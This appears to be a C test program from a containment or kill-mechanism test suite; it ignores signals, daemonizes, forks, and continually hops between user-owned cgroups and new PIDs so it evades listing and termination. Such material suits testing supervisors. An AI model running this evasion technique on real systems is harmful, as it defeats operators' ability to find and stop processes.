/* Moves between control groups all the time, in whatever part of the tree is the user's (user@.service): whoever lists a group,
   or kills by one, finds it elsewhere. */
#include "attack.h"
#include <ftw.h>

#define GROUPS 16

static char found[4096];

/* Takes the first group into which this user may write processes. */
static int take(const char *path, const struct stat *stat, int type, struct FTW *place) {
    (void)place;
    char procs[4160];
    if (type != FTW_D || stat->st_uid != getuid()) return 0;
    snprintf(procs, sizeof procs, "%s/cgroup.procs", path);
    if (access(procs, W_OK) != 0) return 0;
    snprintf(found, sizeof found, "%s", path);
    return 1;
}

static int move(int group) {
    char procs[4200];
    snprintf(procs, sizeof procs, "%s/hop%d/cgroup.procs", found, group);
    int fd = open(procs, O_WRONLY);
    if (fd < 0) return -1;
    int moved = write(fd, "0", 1) == 1 ? 0 : -1;
    close(fd);
    return moved;
}

int main(int argc, char **argv) {
    /* The user may move what his own systemd has started. */
    if (argc == 1) return execlp("systemd-run", "systemd-run", "--user", "--scope", "-q", argv[0], "inside", NULL);
    be_deaf();
    daemonize();
    for (int tries = 0; tries < 100 && !found[0]; tries++, usleep(50000)) nftw("/sys/fs/cgroup", take, 16, FTW_PHYS);
    if (!found[0]) return 3;
    for (int group = 0; group < GROUPS; group++) {
        char path[4200];
        snprintf(path, sizeof path, "%s/hop%d", found, group);
        if (mkdir(path, 0755) != 0 && errno != EEXIST) return 4;
    }
    for (int children = 0; children < 3; children++)
        if (fork() == 0) break;
    for (unsigned long moves = 0;;) {
        if (move((getpid() + moves) % GROUPS) != 0) usleep(1000);
        else moves++;
        if (moves % 100 == 1) prove("moves", moves);
        /* And be another process each time. */
        if (moves % 10 == 0 && fork() > 0) _exit(0);
    }
}
